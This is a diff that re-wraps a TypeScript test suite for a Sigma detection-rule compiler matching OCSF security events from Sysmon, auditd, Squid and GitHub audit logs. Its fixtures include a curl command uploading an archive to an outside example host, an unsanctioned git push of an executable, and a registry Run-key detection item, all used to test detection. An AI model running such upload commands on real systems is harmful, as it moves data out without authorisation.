@@ -9,32 +9,74 @@ const CONTEXT = { destination: { verdict: "unsanctioned" }, work_hours: false } 
 
 function activity(source: string, fields: Partial<OcsfEvent>): Activity {
   const classUid = fields.class_uid ?? 6003;
-  const event: OcsfEvent = { class_uid: classUid, category_uid: Math.floor(classUid / 1000), activity_id: 1, type_uid: classUid * 100 + 1, time: 1_774_000_000_000, severity_id: 1, metadata: { version: "1.8.0", product: { name: "x" } }, ...fields };
+  const event: OcsfEvent = {
+    class_uid: classUid,
+    category_uid: Math.floor(classUid / 1000),
+    activity_id: 1,
+    type_uid: classUid * 100 + 1,
+    time: 1_774_000_000_000,
+    severity_id: 1,
+    metadata: { version: "1.8.0", product: { name: "x" } },
+    ...fields,
+  };
   return { source, event, context: CONTEXT };
 }
 
 const SYSMON = (eventId: string, unmapped: Record<string, unknown>, classUid = 1007) =>
-  activity("windows-sysmon", { class_uid: classUid, metadata: { version: "1.8.0", product: { name: "Sysmon" }, event_code: eventId, log_name: "Microsoft-Windows-Sysmon/Operational" }, unmapped });
+  activity("windows-sysmon", {
+    class_uid: classUid,
+    metadata: {
+      version: "1.8.0",
+      product: { name: "Sysmon" },
+      event_code: eventId,
+      log_name: "Microsoft-Windows-Sysmon/Operational",
+    },
+    unmapped,
+  });
 
 const LAUNCH = activity("linux-auditd", {
   class_uid: 1007,
-  process: { name: "curl", cmd_line: "curl -T /srv/a.tgz https://files.example", file: { path: "/usr/bin/curl" }, user: { name: "bob", domain: "ACME" }, parent_process: { file: { path: "/bin/bash" } } },
+  process: {
+    name: "curl",
+    cmd_line: "curl -T /srv/a.tgz https://files.example",
+    file: { path: "/usr/bin/curl" },
+    user: { name: "bob", domain: "ACME" },
+    parent_process: { file: { path: "/bin/bash" } },
+  },
 });
 const REQUEST = activity("squid", {
   class_uid: 4002,
   activity_id: 6,
-  http_request: { http_method: "POST", user_agent: "git/2.44", url: { url_string: "https://code.example/a/b.git/x.exe?service=git-receive-pack", hostname: "code.example", path: "/a/b.git/x.exe", query_string: "service=git-receive-pack" } },
+  http_request: {
+    http_method: "POST",
+    user_agent: "git/2.44",
+    url: {
+      url_string: "https://code.example/a/b.git/x.exe?service=git-receive-pack",
+      hostname: "code.example",
+      path: "/a/b.git/x.exe",
+      query_string: "service=git-receive-pack",
+    },
+  },
   http_response: { code: 200 },
   src_endpoint: { ip: "10.1.4.17" },
   traffic: { bytes_out: 4_000 },
 });
-const AUDIT = activity("github-audit", { api: { operation: "git.push" }, actor: { user: { name: "alice-acme" } }, resources: [{ name: "acme/site" }, { name: "acme/tools" }], unmapped: { org: "acme" }, raw_data: '{"action":"git.push","programmatic_access_type":"PAT","nested":{"deep":[{"x":1},{"x":2}]}}' });
+const AUDIT = activity("github-audit", {
+  api: { operation: "git.push" },
+  actor: { user: { name: "alice-acme" } },
+  resources: [{ name: "acme/site" }, { name: "acme/tools" }],
+  unmapped: { org: "acme" },
+  raw_data: '{"action":"git.push","programmatic_access_type":"PAT","nested":{"deep":[{"x":1},{"x":2}]}}',
+});
 
 function holds(logsource: string, item: string, event: Activity): boolean {
   const text = `title: t\nlogsource: { ${logsource} }\ndetection:\n  sel:\n    ${item}\n  condition: sel\n`;
   const { documents, issues } = parseSigma(text, "t.yml");
   expect(issues.filter(({ severity }) => severity === "error")).toEqual([]);
-  return compileRules<Activity>(documents, { resolve: resolveActivityField, kindOf: activityKind, applies }).match(event).length === 1;
+  return (
+    compileRules<Activity>(documents, { resolve: resolveActivityField, kindOf: activityKind, applies }).match(event)
+      .length === 1
+  );
 }
 
 describe("fields", () => {
@@ -59,8 +101,16 @@ describe("fields", () => {
     ["product: ocsf", "api.operation: git.push", AUDIT],
     ["product: ocsf", "resources.name: acme/tools", AUDIT],
     ["product: ocsf", "context.work_hours: false", AUDIT],
-    ["category: process_creation, product: windows", "Image|endswith: \\git.exe", SYSMON("1", { Image: "C:\\x\\git.exe" })],
-    ["category: registry_set, product: windows", "TargetObject|contains: \\Run", SYSMON("13", { TargetObject: "HKLM\\Run\\x" }, 0)],
+    [
+      "category: process_creation, product: windows",
+      "Image|endswith: \\git.exe",
+      SYSMON("1", { Image: "C:\\x\\git.exe" }),
+    ],
+    [
+      "category: registry_set, product: windows",
+      "TargetObject|contains: \\Run",
+      SYSMON("13", { TargetObject: "HKLM\\Run\\x" }, 0),
+    ],
     ["product: windows, service: sysmon", "EventID: 255", SYSMON("255", { EventID: 255 }, 0)],
   ])("%s: %s", (logsource, item, event) => {
     expect(holds(logsource, item, event)).toBe(true);
@@ -82,16 +132,23 @@ describe("log sources that do not cover the event", () => {
     ["category: process_creation, product: linux", SYSMON("1", {})],
     ["product: antivirus", AUDIT],
   ])("%s", (logsource, event) => {
-    expect(holds(logsource, "metadata.version|exists: true", event) || holds(logsource, "nothing: null", event)).toBe(false);
+    expect(holds(logsource, "metadata.version|exists: true", event) || holds(logsource, "nothing: null", event)).toBe(
+      false,
+    );
   });
 });
 
 test("log sources of the tables are known, others are not", () => {
-  expect(isKnownLogsource({ category: "process_creation", product: "windows", service: null, definition: null })).toBe(true);
+  expect(isKnownLogsource({ category: "process_creation", product: "windows", service: null, definition: null })).toBe(
+    true,
+  );
   expect(isKnownLogsource({ category: null, product: "ocsf", service: "http_activity", definition: null })).toBe(true);
-  expect(isKnownLogsource({ category: "process_creations", product: "windows", service: null, definition: null })).toBe(false);
+  expect(isKnownLogsource({ category: "process_creations", product: "windows", service: null, definition: null })).toBe(
+    false,
+  );
 });
 
 test("every field of the tables has a home", () => {
-  for (const { name, fields } of taxonomyLines()) for (const [field, homes] of fields) expect(homes, `${name} ${field}`).not.toBe("");
+  for (const { name, fields } of taxonomyLines())
+    for (const [field, homes] of fields) expect(homes, `${name} ${field}`).not.toBe("");
 });
